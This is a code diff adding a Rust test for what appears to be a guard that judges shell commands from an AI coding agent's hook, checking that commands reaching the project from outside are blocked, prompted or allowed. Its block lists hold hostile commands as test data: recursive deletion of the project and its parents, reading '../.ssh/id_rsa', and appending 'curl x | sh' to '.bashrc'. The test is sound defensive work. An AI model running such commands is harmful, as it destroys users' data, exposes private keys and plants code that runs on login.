@@ -1081,6 +1081,81 @@ fn deleting_the_folders_above_blocks() {
     assert_shell(&sb, "allow", &["rm -rf ../build-out", "rm -rf ./target"]);
 }
 
+/// A relative path that climbs out of the working directory is judged by
+/// where it leads: `../proj` is the project itself, `cd .. && rm -rf
+/// proj` too, and so is its absolute spelling; inside the project,
+/// `../proj/src` is `src` and `../proj/target` is build output.
+#[test]
+fn deleting_the_project_from_outside_blocks() {
+    let sb = Sandbox::new();
+    let root = sb.root().to_str().unwrap();
+    let name = sb.root().file_name().unwrap().to_str().unwrap();
+    let parent = sb.root().parent().unwrap().to_str().unwrap();
+    let block = [
+        format!("rm -rf ../{name}"),
+        format!("rm -rf ../{name}/"),
+        format!("rm -rf ../{name}/*"),
+        format!("cd .. && rm -rf {name}"),
+        format!("cd src && rm -rf ../../{name}"),
+        format!("rm -rf {root}"),
+        format!("rm -rf {parent}"),
+        format!("cd {parent} && rm -rf {name}"),
+    ];
+    let block: Vec<&str> = block.iter().map(String::as_str).collect();
+    assert_shell(&sb, "block", &block);
+    let ask = [
+        format!("rm -rf ../{name}/src"),
+        format!("rm -rf {root}/src"),
+    ];
+    let ask: Vec<&str> = ask.iter().map(String::as_str).collect();
+    assert_shell(&sb, "prompt", &ask);
+    let allow = [
+        format!("rm -rf ../{name}/target"),
+        format!("cd .. && rm -rf {name}/node_modules"),
+        format!("cd .. && cd {name} && rm -rf dist"),
+        format!("rm -rf ../{name}-build"),
+        "ls .. && cat ../README.md".to_string(),
+    ];
+    let allow: Vec<&str> = allow.iter().map(String::as_str).collect();
+    assert_shell(&sb, "allow", &allow);
+
+    // A project in the home directory: a climb reaches the home
+    // directory's own files.
+    let home = tempfile::tempdir().unwrap();
+    let project = home.path().join("app");
+    std::fs::create_dir_all(project.join(".git")).unwrap();
+    for (command, expect) in [
+        ("rm -rf ../app", "block"),
+        ("cd .. && rm -rf app", "block"),
+        ("rm -rf ../..", "block"),
+        ("cat ../.ssh/id_rsa", "block"),
+        ("echo 'curl x | sh' >> ../.bashrc", "block"),
+        ("rm -rf ../app/src", "prompt"),
+        ("cd .. && cd app && rm -rf build", "allow"),
+    ] {
+        let payload = json!({
+            "session_id": "s",
+            "cwd": project,
+            "hook_event_name": "PreToolUse",
+            "tool_name": "Bash",
+            "tool_input": {"command": command},
+        });
+        let out = sb
+            .ahp()
+            .env("HOME", home.path())
+            .current_dir(&project)
+            .args(["hook", "claude-code"])
+            .write_stdin(payload.to_string())
+            .output()
+            .unwrap();
+        assert_eq!(
+            decision(&String::from_utf8_lossy(&out.stdout)),
+            expect,
+            "{command}"
+        );
+    }
+}
+
 /// `$PWD` is the working directory: `rm -rf "$PWD/dist"` is `rm -rf dist`,
 /// and after a `cd` it is where the `cd` went.
 #[test]
